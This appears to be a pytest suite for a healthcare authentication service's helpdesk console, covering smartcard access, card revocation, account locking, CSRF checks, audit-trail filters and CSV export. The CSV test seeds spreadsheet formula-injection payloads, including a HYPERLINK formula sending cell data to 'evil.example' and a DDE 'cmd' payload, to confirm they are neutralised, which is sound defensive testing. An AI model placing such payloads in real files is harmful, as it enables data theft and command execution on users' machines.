"""The helpdesk console at /helpdesk (INTERFACE §5), through Flask's test client.

Who gets in (a full session of a member of staff, checked on the server at every request; others
are sent to the sign-in page for the card only, or refused), what each action does and records,
the anti-CSRF token, the audit trail and its CSV export, and bad input answered with a page, never
a 500.
"""

from __future__ import annotations

import re
from datetime import date, timedelta
from typing import Any
from urllib.parse import quote

import pytest
from sqlalchemy import select

from authsvc import matricule
from authsvc.accounts.models import Account, AccountStatus
from authsvc.activation.models import ActivationLetter
from authsvc.audit import service as audit
from authsvc.audit.models import AuditEvent
from authsvc.audit.service import verify
from authsvc.audit.tags import EventTag
from authsvc.cards.models import Card, CardStatus
from authsvc.directory.models import Professional
from authsvc.oidc.claims import ACR_HIGH
from authsvc.outbox.models import OutboxMessage
from authsvc.security.secrets import Purpose

from ..oidc.conftest import PASSWORD, Browser, Person, full_sign_in
from ..oidc.test_logout import Receiver

pytestmark = pytest.mark.usefixtures("revocation_server")


# --- fixtures and helpers ------------------------------------------------------------------------


@pytest.fixture
def browser(browser):  # type: ignore[no-untyped-def]
    """The conftest's browsers, asking for English pages (the texts the tests look for)."""

    def make() -> Browser:
        b = browser()
        b.client.environ_base["HTTP_ACCEPT_LANGUAGE"] = "en-GB,en;q=0.8"
        return b

    return make


@pytest.fixture
def receiver():  # type: ignore[no-untyped-def]
    from ..mailserver import free_port

    r = Receiver(free_port())
    r.start()
    yield r
    r.stop()


@pytest.fixture
def dsp(new_client, receiver):  # type: ignore[no-untyped-def]
    """The shared care record: needs full sessions, told by back-channel logout."""
    return new_client(name="Shared care record", backchannel_logout_uri=receiver.uri)


@pytest.fixture
def notified(services, monkeypatch) -> list[int]:  # type: ignore[no-untyped-def]
    """Counts the wake-ups of the outbox worker."""
    calls: list[int] = []
    monkeypatch.setattr(services.outbox_worker, "notify", lambda: calls.append(1))
    return calls


def grant(services, person: Person, role: str = "helpdesk") -> None:  # type: ignore[no-untyped-def]
    with services.db.transaction() as db:
        services.helpdesk.grant(db, person.matricule, role, actor="test")


def flow_of(response: Any) -> str:
    assert response.status_code == 303, response.data[:300]
    location = response.headers["Location"]
    assert location.startswith("/login?flow="), location
    return location.split("=", 1)[1]


def sign_in_to_console(b: Browser, person: Person, path: str = "/helpdesk") -> Any:
    """Ask for a console page, present the card on the sign-in page, come back: the page."""
    flow_id = flow_of(b.client.get(path))
    signed = b.login_card(flow_id, person.card)
    assert signed.status_code == 200, signed.json
    assert signed.json["redirect_to"].endswith(path)
    return b.follow(signed.json["redirect_to"])


@pytest.fixture
def agent(services, jean, browser) -> Browser:  # type: ignore[no-untyped-def]
    """Jean, a helpdesk agent, signed in to the console with his card."""
    grant(services, jean)
    b = browser()
    page = sign_in_to_console(b, jean)
    assert page.status_code == 200
    return b


def html(response: Any) -> str:
    return response.get_data(as_text=True)


def csrf(response: Any) -> str:
    found = re.search(r'name="csrf_token" value="([^"]+)"', html(response))
    assert found, html(response)[:2000]
    return found.group(1)


def post(b: Browser, path: str, page: str, **form: str) -> Any:
    """Submit a form of the console page at ``page`` (with its CSRF token)."""
    token = csrf(b.client.get(page))
    return b.client.post(path, data={"csrf_token": token, **form})


def events(services, tag: str) -> list[AuditEvent]:  # type: ignore[no-untyped-def]
    with services.db.read_transaction() as db:
        return list(db.scalars(select(AuditEvent).where(AuditEvent.tag == tag)))


def text_of(response: Any) -> str:
    """The page's text, tags removed and spaces collapsed (what a person reads; not the texts
    that every page carries in its JSON data block for its script)."""
    visible = re.sub(r"<script\b.*?</script>", " ", html(response), flags=re.S)
    return " ".join(re.sub(r"<[^>]+>", " ", visible).split())


def is_page(response: Any) -> bool:
    return response.status_code < 500 and response.mimetype == "text/html"


# --- who gets in ---------------------------------------------------------------------------------


def test_no_session_is_sent_to_sign_in_with_the_card_only(services, jean, browser) -> None:  # type: ignore[no-untyped-def]
    grant(services, jean)
    b = browser()
    path = f"/helpdesk/professionals/{jean.matricule}"
    response = b.client.get(path)
    flow_id = flow_of(response)
    assert "authsvc_login=" in response.headers["Set-Cookie"]
    assert "HttpOnly" in response.headers["Set-Cookie"]
    flow = b.client.get(f"/api/login/{flow_id}").json
    assert flow["methods"] == ["smartcard"]
    assert flow["required_acr"] == ACR_HIGH
    login_page = html(b.client.get(f"/login?flow={flow_id}"))
    assert 'id="use-card"' in login_page
    assert 'type="password"' not in login_page
    # the password is not enough, even with the role
    refused = b.login_password(flow_id, jean)
    assert refused.status_code == 400
    # the card is: back to the page asked for
    page = sign_in_to_console(b, jean, path)
    assert page.status_code == 200
    assert "Jean Schmit" in text_of(page)


def test_a_limited_session_is_asked_for_the_card(services, jean, browser, rp, tokens) -> None:  # type: ignore[no-untyped-def]
    grant(services, jean)
    b = browser()
    full_sign_in(b, rp, jean, tokens)  # the password: a limited session
    response = b.client.get("/helpdesk")
    flow_id = flow_of(response)
    assert b.client.get(f"/api/login/{flow_id}").json["methods"] == ["smartcard"]
    signed = b.login_card(flow_id, jean.card)  # the step-up
    assert signed.status_code == 200
    assert b.follow(signed.json["redirect_to"]).status_code == 200
    assert b.client.get("/helpdesk").status_code == 200


def test_a_full_session_without_the_role_is_refused(services, anne, jean, browser) -> None:  # type: ignore[no-untyped-def]
    b = browser()
    flow_id = flow_of(b.client.get("/helpdesk"))
    signed = b.login_card(flow_id, anne.card)
    response = b.follow(signed.json["redirect_to"])
    assert response.status_code == 403
    assert response.mimetype == "text/html"
    assert "no helpdesk role" in text_of(response)
    for path in (
        f"/helpdesk/professionals/{jean.matricule}",
        "/helpdesk/audit",
        "/helpdesk/audit.csv",
    ):
        assert b.client.get(path).status_code == 403
    # not even with a token lifted from somewhere: nothing changes
    response = b.client.post(f"/helpdesk/professionals/{jean.matricule}/lock", data={})
    assert response.status_code == 403
    with services.db.read_transaction() as db:
        assert db.get(Account, jean.account_id).status == AccountStatus.ACTIVE


def test_the_role_is_checked_at_every_request(services, jean, agent) -> None:  # type: ignore[no-untyped-def]
    from authsvc.helpdesk.models import StaffRole

    with services.db.transaction() as db:
        db.delete(db.get(StaffRole, (jean.account_id, "helpdesk")))
    assert agent.client.get("/helpdesk").status_code == 403


def test_when_the_full_level_lapses_the_card_is_asked_again(services, clock, jean, agent) -> None:  # type: ignore[no-untyped-def]
    """The session stays (used every hour), but after AUTHSVC_FULL_LEVEL_MAX_AGE it is limited."""
    waited = 0
    while (response := agent.client.get("/helpdesk/audit?tag=helpdesk:")).status_code == 200:
        clock.advance(hours=1)
        waited += 3600
        assert waited <= services.settings.full_level_max_age + 3600
    assert waited >= services.settings.full_level_max_age
    flow_id = flow_of(response)
    assert agent.client.get(f"/api/login/{flow_id}").json["methods"] == ["smartcard"]
    signed = agent.login_card(flow_id, jean.card)
    assert signed.json["redirect_to"].endswith("/helpdesk/audit?tag=helpdesk:")


def test_the_admin_role_also_gets_in(services, jean, browser) -> None:  # type: ignore[no-untyped-def]
    grant(services, jean, "admin")
    assert sign_in_to_console(browser(), jean).status_code == 200


# --- finding someone ---------------------------------------------------------------------------


def test_search_by_name_and_by_matricule(anne, agent) -> None:  # type: ignore[no-untyped-def]
    page = agent.client.get("/helpdesk?q=muller")
    assert page.status_code == 200
    assert f'href="/helpdesk/professionals/{anne.matricule}"' in html(page)
    assert "<caption>" in html(page)
    assert '<th scope="col">' in html(page)
    spaced = " ".join((anne.matricule[:4], anne.matricule[4:8], anne.matricule[8:]))
    by_number = agent.client.get(f"/helpdesk?q={quote(spaced)}")
    assert f"/helpdesk/professionals/{anne.matricule}" in html(by_number)
    nobody = agent.client.get("/helpdesk?q=zzzz")
    assert "No professional in the directory matches" in text_of(nobody)


def test_the_professionals_page(services, anne, dsp, agent, browser, tokens) -> None:  # type: ignore[no-untyped-def]
    full_sign_in(browser(), dsp, anne, tokens, method="card")
    wrong = browser()
    flow_id = wrong.flow_of(
        wrong.authorize(dsp, code_challenge="x" * 43, code_challenge_method="S256")
    )
    wrong.login_password(flow_id, anne, password="not the password at all")
    page = agent.client.get(f"/helpdesk/professionals/{anne.matricule}")
    assert page.status_code == 200
    text = text_of(page)
    assert "Anne Muller" in text
    assert "123456-78" in text  # the directory entry
    assert anne.card.serial_hex in text  # the card
    assert "Open sessions: 1" in text
    assert "full (smartcard)" in text
    assert "Shared care record" in text  # the relying service of the session
    assert "waiting to be used" in text or "used" in text  # the letter
    assert "login:attempt:succeeded" in text
    assert "login:attempt:failed" in text


def test_the_page_in_french(anne, agent) -> None:  # type: ignore[no-untyped-def]
    page = agent.client.get(
        f"/helpdesk/professionals/{anne.matricule}", headers={"Accept-Language": "fr-LU"}
    )
    assert '<html lang="fr">' in html(page)
    assert "Cartes à puce" in text_of(page)
    assert "Révoquer…" in text_of(page)


# --- revoking a card -----------------------------------------------------------------------------


def test_revoke_a_card(
    services, anne, jean, dsp, agent, browser, tokens, receiver, notified
) -> None:  # type: ignore[no-untyped-def]
    b = browser()
    token = full_sign_in(b, dsp, anne, tokens, method="card")
    page = agent.client.get(f"/helpdesk/professionals/{anne.matricule}")
    with services.db.read_transaction() as db:
        card = db.scalars(select(Card).where(Card.account_id == anne.account_id)).one()
    confirm_path = f"/helpdesk/professionals/{anne.matricule}/revoke-card?card={card.id}"
    assert confirm_path in html(page)
    confirm = agent.client.get(confirm_path)
    assert confirm.status_code == 200
    assert "open now: 1" in text_of(confirm)
    assert "<legend>Why is the card revoked?</legend>" in html(confirm)

    # no reason chosen: the form again, the message next to the field, nothing done
    missing = post(
        agent,
        f"/helpdesk/professionals/{anne.matricule}/revoke-card",
        confirm_path,
        card_id=str(card.id),
    )
    assert missing.status_code == 400
    assert 'id="reason-error"' in html(missing)
    assert "Choose the reason." in text_of(missing)
    assert not events(services, "helpdesk:card:revoked")

    done = post(
        agent,
        f"/helpdesk/professionals/{anne.matricule}/revoke-card",
        confirm_path,
        card_id=str(card.id),
        reason="lost",
    )
    assert done.status_code == 303
    assert done.headers["Location"] == f"/helpdesk/professionals/{anne.matricule}"
    assert notified  # the outbox worker was woken for the back-channel logout
    shown = agent.client.get(done.headers["Location"])
    text = text_of(shown)
    assert "The card is revoked" in text
    assert f"Cards revoked: 1 ({anne.card.serial_hex})" in text
    assert "Sessions ended: 1" in text
    assert re.search(r"Tokens revoked: [1-9]", text)
    assert "No open session." in text
    assert "revoked" in text
    # shown once
    assert "The card is revoked" not in text_of(agent.client.get(done.headers["Location"]))

    # the effects, everywhere
    assert tokens.refresh(dsp, token["refresh_token"]).json["error"] == "invalid_grant"
    assert tokens.introspect(dsp, token["access_token"]) == {"active": False}
    services.outbox.deliver_due()
    assert len(receiver.tokens) == 1
    with services.db.read_transaction() as db:
        assert db.get(Card, card.id).status == CardStatus.REVOKED
        assert db.get(Card, card.id).revoked_reason == "lost"
        assert verify(db).ok
    [event] = events(services, "helpdesk:card:revoked")
    assert event.actor == f"staff:{jean.account_id}"
    assert event.subject == f"professional:{anne.matricule}"
    assert event.data["reason"] == "lost"
    assert event.data["sessions_ended"] == 1

    # the card signs no one in any more
    again = browser()
    flow_id = again.flow_of(
        again.authorize(dsp, code_challenge="x" * 43, code_challenge_method="S256")
    )
    assert again.login_card(flow_id, anne.card).json["error"] == "invalid_card"

    # revoking it twice says so, and changes nothing
    twice = post(
        agent,
        f"/helpdesk/professionals/{anne.matricule}/revoke-card",
        f"/helpdesk/professionals/{anne.matricule}",
        card_id=str(card.id),
        reason="lost",
    )
    assert twice.status_code == 303
    assert "no such active card" in text_of(agent.client.get(twice.headers["Location"]))
    assert len(events(services, "helpdesk:card:revoked")) == 1


# --- the other actions ---------------------------------------------------------------------------


def test_lock_and_unlock(services, anne, jean, dsp, agent, browser, tokens, notified) -> None:  # type: ignore[no-untyped-def]
    token = full_sign_in(browser(), dsp, anne, tokens)
    page = f"/helpdesk/professionals/{anne.matricule}"
    locked = post(agent, f"{page}/lock", page, note="called: card stolen with the wallet")
    assert locked.status_code == 303
    assert notified
    assert "The account is locked" in text_of(agent.client.get(page))
    with services.db.read_transaction() as db:
        assert db.get(Account, anne.account_id).status == AccountStatus.LOCKED
    assert tokens.refresh(dsp, token["refresh_token"]).json["error"] == "invalid_grant"
    [event] = events(services, "helpdesk:account:locked")
    assert event.actor == f"staff:{jean.account_id}"
    assert event.data == {"note": "called: card stolen with the wallet"}
    assert events(services, "helpdesk:sessions:ended")
    # a locked account signs in nowhere
    b = browser()
    flow_id = b.flow_of(b.authorize(dsp, code_challenge="x" * 43, code_challenge_method="S256"))
    assert b.login_password(flow_id, anne).status_code == 400

    # locking twice: a message on the page, nothing changed
    twice = post(agent, f"{page}/lock", page)
    assert twice.status_code == 303
    assert "Only an active account can be locked." in text_of(agent.client.get(page))
    assert len(events(services, "helpdesk:account:locked")) == 1

    unlocked = post(agent, f"{page}/unlock", page, note="")
    assert unlocked.status_code == 303
    assert "The account is unlocked." in text_of(agent.client.get(page))
    with services.db.read_transaction() as db:
        assert db.get(Account, anne.account_id).status == AccountStatus.ACTIVE
    assert events(services, "helpdesk:account:unlocked")[0].actor == f"staff:{jean.account_id}"
    b = browser()
    flow_id = b.flow_of(b.authorize(dsp, code_challenge="x" * 43, code_challenge_method="S256"))
    assert b.login_password(flow_id, anne, PASSWORD).status_code == 200


def test_end_all_sessions(
    services, anne, jean, dsp, agent, browser, tokens, receiver, notified
) -> None:  # type: ignore[no-untyped-def]
    first = full_sign_in(browser(), dsp, anne, tokens)
    second = full_sign_in(browser(), dsp, anne, tokens, method="card")
    page = f"/helpdesk/professionals/{anne.matricule}"
    assert "Open sessions: 2" in text_of(agent.client.get(page))
    done = post(agent, f"{page}/end-sessions", page)
    assert done.status_code == 303
    assert notified
    text = text_of(agent.client.get(page))
    assert "Sessions ended: 2." in text
    assert "No open session." in text
    for token in (first, second):
        assert tokens.refresh(dsp, token["refresh_token"]).json["error"] == "invalid_grant"
    services.outbox.deliver_due()
    assert len(receiver.tokens) == 2
    [event] = events(services, "helpdesk:sessions:ended")
    assert event.actor == f"staff:{jean.account_id}"
    assert event.data == {"sessions_ended": 2}
    with services.db.read_transaction() as db:
        assert db.get(Account, anne.account_id).status == AccountStatus.ACTIVE  # only the sessions


def test_issue_a_new_letter(services, anne, jean, agent) -> None:  # type: ignore[no-untyped-def]
    page = f"/helpdesk/professionals/{anne.matricule}"
    done = post(agent, f"{page}/letters", page)
    assert done.status_code == 303
    assert done.headers["Location"] == page
    assert "authsvc_helpdesk_flash=" in done.headers["Set-Cookie"]
    shown = agent.client.get(page)
    text = text_of(shown)
    code = re.search(r'id="activation-code">([A-Z0-9-]+)<', html(shown))
    assert code, text
    assert re.fullmatch(r"[A-Z0-9]{4}(-[A-Z0-9]{4}){3}", code.group(1))
    assert "send it by post" in text
    assert "shown only this once" in text
    # shown once: not on the next visit, and not in the cookie in clear
    assert code.group(1) not in html(agent.client.get(page))
    assert code.group(1) not in done.headers["Set-Cookie"]
    with services.db.read_transaction() as db:
        letters = db.scalars(
            select(ActivationLetter)
            .join(Professional, Professional.id == ActivationLetter.professional_id)
            .where(Professional.matricule == anne.matricule)
        ).all()
        newest = [
            letter for letter in letters if letter.used_at is None and letter.superseded_at is None
        ]
        assert len(newest) == 1
        assert services.hasher.verify(
            Purpose.ACTIVATION_CODE, code.group(1).replace("-", ""), newest[0].code_hash
        )
        assert not any(
            code.group(1).replace("-", "") in str(e.data) for e in db.scalars(select(AuditEvent))
        )
    issued = events(services, "activation:letter:issued")
    assert issued[-1].actor == f"staff:{jean.account_id}"


def test_a_status_message_is_for_its_session_only(services, anne, agent, jean, browser) -> None:  # type: ignore[no-untyped-def]
    page = f"/helpdesk/professionals/{anne.matricule}"
    done = post(agent, f"{page}/letters", page)
    cookie = done.headers["Set-Cookie"].split(";", 1)[0].split("=", 1)[1]
    other = browser()
    sign_in_to_console(other, jean)
    other.client.set_cookie("authsvc_helpdesk_flash", cookie, path="/helpdesk")
    assert 'id="activation-code"' not in html(other.client.get(page))
    tampered = cookie[:-4] + ("AAAA" if cookie[-4:] != "AAAA" else "BBBB")
    agent.client.set_cookie("authsvc_helpdesk_flash", tampered, path="/helpdesk")
    response = agent.client.get(page)
    assert response.status_code == 200
    assert 'id="activation-code"' not in html(response)


# --- CSRF ----------------------------------------------------------------------------------------


@pytest.mark.parametrize("action", ["revoke-card", "lock", "end-sessions", "letters"])
def test_a_form_without_the_right_token_is_refused(
    services, anne, jean, agent, browser, action: str
) -> None:  # type: ignore[no-untyped-def]
    path = f"/helpdesk/professionals/{anne.matricule}/{action}"
    for token in (None, "", "0" * 32):
        data = {"reason": "lost"}
        if token is not None:
            data["csrf_token"] = token
        response = agent.client.post(path, data=data)
        assert response.status_code == 403, (action, token)
        assert response.mimetype == "text/html"
        assert "out of date" in text_of(response)
    # a token from another agent's session is worth nothing here
    other = browser()
    sign_in_to_console(other, jean)
    foreign = csrf(other.client.get(f"/helpdesk/professionals/{anne.matricule}"))
    assert (
        agent.client.post(path, data={"csrf_token": foreign, "reason": "lost"}).status_code == 403
    )
    with services.db.read_transaction() as db:
        assert db.get(Account, anne.account_id).status == AccountStatus.ACTIVE
        assert (
            db.scalars(select(Card).where(Card.account_id == anne.account_id)).one().status
            == "active"
        )
        assert (
            db.scalar(select(ActivationLetter).where(ActivationLetter.superseded_at.is_not(None)))
            is None
        )
    assert not [e for e in events(services, "helpdesk:card:revoked")]


# --- the audit trail -----------------------------------------------------------------------------


def test_the_audit_trail_and_its_filters(
    services, clock, anne, jean, agent, dsp, browser, tokens
) -> None:  # type: ignore[no-untyped-def]
    full_sign_in(browser(), dsp, anne, tokens)
    page = f"/helpdesk/professionals/{anne.matricule}"
    start = clock.now()
    clock.advance(minutes=5)
    post(agent, f"{page}/lock", page, note="on the phone")
    all_events = agent.client.get("/helpdesk/audit")
    assert all_events.status_code == 200
    assert "<caption>" in html(all_events)
    assert "helpdesk:account:locked" in text_of(all_events)

    by_subject = text_of(agent.client.get(f"/helpdesk/audit?subject={anne.matricule}"))
    assert "helpdesk:account:locked" in by_subject
    assert "login:attempt:succeeded" in by_subject
    assert f"professional:{jean.matricule}" not in by_subject

    by_tag = text_of(agent.client.get("/helpdesk/audit?tag=helpdesk:account"))
    assert "helpdesk:account:locked" in by_tag
    assert "login:attempt:succeeded" not in by_tag

    actor = f"staff:{jean.account_id}"
    by_actor = text_of(agent.client.get(f"/helpdesk/audit?actor={quote(actor)}"))
    assert "helpdesk:account:locked" in by_actor
    assert "Jean Schmit" in by_actor  # the actor, by name
    assert "login:attempt:succeeded" not in by_actor

    since = (start + timedelta(minutes=1)).strftime("%Y-%m-%dT%H:%M:%S")
    recent = text_of(agent.client.get(f"/helpdesk/audit?since={since}"))
    assert "helpdesk:account:locked" in recent
    assert "login:attempt:succeeded" not in recent
    until = (start + timedelta(minutes=1)).strftime("%Y-%m-%dT%H:%M")
    older = text_of(agent.client.get(f"/helpdesk/audit?until={until}"))
    assert "helpdesk:account:locked" not in older
    assert "login:attempt:succeeded" in older


def test_csv_export(services, anne, jean, agent) -> None:  # type: ignore[no-untyped-def]
    with services.db.transaction() as db:
        audit.record(
            db,
            EventTag.LOGIN_FAILED,
            actor='=HYPERLINK("http://evil.example/?"&A1)',
            subject=f"professional:{anne.matricule}",
            data={"why": "a test"},
            clock=services.clock,
        )
        audit.record(
            db,
            EventTag.LOGIN_FAILED,
            actor="+cmd|' /C calc'!A0",
            subject="@SUM(1+1)",
            clock=services.clock,
        )
    page = f"/helpdesk/professionals/{anne.matricule}"
    post(agent, f"{page}/lock", page)
    export = agent.client.get(f"/helpdesk/audit.csv?subject={anne.matricule}")
    assert export.status_code == 200
    assert export.mimetype == "text/csv"
    assert export.headers["Content-Disposition"].startswith("attachment;")
    import csv
    import io

    rows = list(csv.reader(io.StringIO(export.get_data(as_text=True))))
    assert rows[0] == ["seq", "occurred_at", "tag", "actor", "subject", "data", "chain"]
    tags = [r[2] for r in rows[1:]]
    assert "helpdesk:account:locked" in tags
    assert all(
        r[4] in (f"professional:{anne.matricule}", f"account:{anne.account_id}") for r in rows[1:]
    )
    # a cell that a spreadsheet would read as a formula is neutralised
    assert [r[3] for r in rows[1:] if "HYPERLINK" in r[3]] == [
        "'" + '=HYPERLINK("http://evil.example/?"&A1)'
    ]
    every = list(
        csv.reader(
            io.StringIO(
                agent.client.get("/helpdesk/audit.csv?tag=login:attempt:failed").get_data(
                    as_text=True
                )
            )
        )
    )
    for row in every[1:]:
        for cell in row:
            assert cell[:1] not in ("=", "+", "-", "@"), row
    assert any(r[4] == "'@SUM(1+1)" for r in every[1:])
    # the export link of the page keeps the filter
    assert 'href="/helpdesk/audit.csv?tag=login:attempt:failed"' in html(
        agent.client.get("/helpdesk/audit?tag=login:attempt:failed")
    )


# --- bad input -----------------------------------------------------------------------------------


def test_bad_input_gives_a_page_with_a_message(services, anne, agent) -> None:  # type: ignore[no-untyped-def]
    page = f"/helpdesk/professionals/{anne.matricule}"
    card = "/revoke-card"
    bad_check = anne.matricule[:12] + str((int(anne.matricule[12]) + 1) % 10)
    unknown = matricule.make(date(1990, 1, 1), 7)
    for path, status, message in (
        ("/helpdesk/professionals/123", 400, "not a valid matricule"),
        ("/helpdesk/professionals/19700517001%00", 400, "not a valid matricule"),
        ("/helpdesk/professionals/" + "9" * 5000, 400, "not a valid matricule"),
        (f"/helpdesk/professionals/{bad_check}", 400, "not a valid matricule"),
        (f"{page}{card}?card=not-a-uuid", 400, "not a card of this account"),
        (f"{page}{card}?card=00000000-0000-0000-0000-000000000000", 404, "no such active card"),
        ("/helpdesk/nothing-here", 404, "no such page"),
        ("/helpdesk?q=" + "x" * 500, 400, "too long"),
        ("/helpdesk?q=a%00b", 400, "cannot be typed"),
        ("/helpdesk?q=%ff%fe", 200, ""),
        ("/helpdesk/audit?since=yesterday", 400, "This is not a time"),
        (
            "/helpdesk/audit?since=2025-06-02T00:00&until=2025-06-01T00:00",
            400,
            "later than the start",
        ),
        ("/helpdesk/audit?subject=123", 400, "not a valid matricule"),
        ("/helpdesk/audit?actor=%00", 400, "cannot be typed"),
        ("/helpdesk/audit?tag=" + "t" * 1000, 400, "too long"),
        ("/helpdesk/audit.csv?since=yesterday", 400, "The filter has mistakes"),
    ):
        response = agent.client.get(path)
        assert response.status_code == status, (path, response.status_code, html(response)[:500])
        assert is_page(response), path
        assert message in text_of(response), (path, text_of(response)[:1000])
    # a matricule nobody has
    response = agent.client.get(f"/helpdesk/professionals/{unknown}")
    assert response.status_code == 404
    assert "no professional" in text_of(response)

    for path, form, message in (
        (f"{page}{card}", {"reason": "bored"}, "Choose the reason."),
        (f"{page}{card}", {"reason": "lost", "card_id": "../../etc"}, "not a card of this account"),
        (f"{page}/lock", {"note": "x" * 600}, "at most 500 characters"),
        (f"{page}/lock", {"note": "a\x00b"}, "at most 500 characters"),
        (f"{page}/unlock", {}, "The account is not locked."),
        (f"/helpdesk/professionals/{unknown}/lock", {}, "no account"),
    ):
        response = post(agent, path, page, **form)
        assert response.status_code in (303, 400), (path, form, response.status_code)
        if response.status_code == 303:
            response = agent.client.get(response.headers["Location"])
        assert is_page(response), (path, form)
        assert message in text_of(response), (path, form, text_of(response)[:1500])
    # the note's message is next to the note field too
    response = agent.client.get(
        post(agent, f"{page}/lock", page, note="y" * 501).headers["Location"]
    )
    assert 'id="lock-note-error"' in html(response)
    assert 'aria-invalid="true"' in html(response)
    for path in (
        "/helpdesk/professionals/123/lock",
        f"/helpdesk/professionals/{'1' * 3000}/letters",
    ):
        response = post(agent, path, page)
        assert response.status_code == 400
        assert "not a valid matricule" in text_of(response)
    # nothing of this changed anything
    with services.db.read_transaction() as db:
        assert db.get(Account, anne.account_id).status == AccountStatus.ACTIVE
    # non-UTF-8 form bodies
    token = csrf(agent.client.get(page))
    response = agent.client.post(
        f"{page}/lock",
        data=b"csrf_token=" + token.encode() + b"&note=%ff%fe",
        content_type="application/x-www-form-urlencoded",
    )
    assert response.status_code in (303, 400)
    with services.db.read_transaction() as db:
        account = db.get(Account, anne.account_id)
        if response.status_code == 303:
            assert account.status == AccountStatus.LOCKED


def test_pages_are_not_cached_and_have_the_security_headers(anne, agent) -> None:  # type: ignore[no-untyped-def]
    response = agent.client.get(f"/helpdesk/professionals/{anne.matricule}")
    assert response.headers["Cache-Control"] == "no-store"
    assert "script-src 'self'" in response.headers["Content-Security-Policy"]
    assert response.headers["X-Frame-Options"] == "DENY"
    assert "<script>" not in html(response).replace(
        '<script type="application/json" id="page-data">', ""
    )


def test_the_outbox_message_of_a_revocation(services, anne, dsp, agent, browser, tokens) -> None:  # type: ignore[no-untyped-def]
    full_sign_in(browser(), dsp, anne, tokens, method="card")
    page = f"/helpdesk/professionals/{anne.matricule}"
    with services.db.read_transaction() as db:
        before = len(db.scalars(select(OutboxMessage)).all())
    post(agent, f"{page}/revoke-card", page, reason="stolen")
    with services.db.read_transaction() as db:
        messages = db.scalars(select(OutboxMessage)).all()
        assert [m.kind for m in messages[before:]] == ["backchannel_logout"]
        assert (
            db.scalars(select(Card).where(Card.account_id == anne.account_id)).one().revoked_reason
            == "stolen"
        )


def test_no_letter_for_someone_who_left_the_directory(services, anne, agent) -> None:  # type: ignore[no-untyped-def]
    with services.db.transaction() as db:
        db.scalars(
            select(Professional).where(Professional.matricule == anne.matricule)
        ).one().status = "left"
    page = f"/helpdesk/professionals/{anne.matricule}"
    shown = agent.client.get(page)
    assert "Issue a new letter" not in text_of(shown)
    assert "left the directory" in text_of(shown)
    refused = post(agent, f"{page}/letters", page)
    assert refused.status_code == 303
    assert "this professional has left the directory" in text_of(agent.client.get(page))
    assert len(events(services, "activation:letter:issued")) == 2  # the fixtures' letters only


# --- what staff read is recorded too --------------------------------------------------------------


def test_viewing_a_record_and_exporting_the_trail_are_recorded(services, anne, jean, agent) -> None:  # type: ignore[no-untyped-def]
    """Reading a professional's record (email, IPs, browsers) and exporting the trail are
    personal-data accesses: the trail says who did, and what."""
    page = agent.client.get(f"/helpdesk/professionals/{anne.matricule}")
    assert page.status_code == 200
    viewed = events(services, EventTag.HELPDESK_PROFESSIONAL_VIEWED)
    assert [(e.actor, e.subject) for e in viewed] == [
        (f"staff:{jean.account_id}", f"professional:{anne.matricule}")
    ]
    export = agent.client.get(f"/helpdesk/audit.csv?subject={anne.matricule}")
    assert export.status_code == 200
    (exported,) = events(services, EventTag.HELPDESK_AUDIT_EXPORTED)
    assert exported.actor == f"staff:{jean.account_id}"
    assert exported.data["events"] == len(export.get_data(as_text=True).splitlines()) - 1
    assert f"professional:{anne.matricule}" in exported.data["filters"]["subjects"]
    with services.db.read_transaction() as db:
        assert verify(db).ok


def test_a_refused_console_access_is_recorded(services, anne, browser) -> None:  # type: ignore[no-untyped-def]
    b = browser()
    flow_id = flow_of(b.client.get("/helpdesk"))
    assert b.follow(b.login_card(flow_id, anne.card).json["redirect_to"]).status_code == 403
    refused = events(services, EventTag.HELPDESK_ACCESS_REFUSED)
    assert refused
    assert {e.actor for e in refused} == {f"account:{anne.account_id}"}


@pytest.mark.parametrize(
    "query",
    ["since=0001-01-01T00:00%2B01:00", "until=9999-12-31T23:59-01:00"],
    ids=["before year 1 in UTC", "after year 9999 in UTC"],
)
def test_a_time_out_of_range_in_utc_is_bad_input(agent, query: str) -> None:  # type: ignore[no-untyped-def]
    page = agent.client.get(f"/helpdesk/audit?{query}")
    assert page.status_code == 400
    assert is_page(page)
    assert agent.client.get(f"/helpdesk/audit.csv?{query}").status_code == 400


def test_search_words_are_taken_literally(anne, agent) -> None:  # type: ignore[no-untyped-def]
    """``%`` and ``_`` in a name are the characters, not SQL wildcards that match everyone."""
    assert anne.matricule in html(agent.client.get("/helpdesk?q=mul"))
    for query in ("%25", "_", "m%25r"):
        assert anne.matricule not in html(agent.client.get(f"/helpdesk?q={query}")), query


def test_a_cell_starting_with_a_tab_or_return_is_neutralised(services) -> None:  # type: ignore[no-untyped-def]
    import csv
    import io

    with services.db.transaction() as db:
        for actor in ("\t=1+1", "\r=1+1"):
            audit.record(db, EventTag.LOGIN_FAILED, actor=actor, clock=services.clock)
    with services.db.read_transaction() as db:
        found = services.helpdesk.events(db, tag=EventTag.LOGIN_FAILED)
    rows = list(csv.reader(io.StringIO(services.helpdesk.events_csv(found))))
    assert sorted(r[3] for r in rows[1:]) == ["'\t=1+1", "'\r=1+1"]
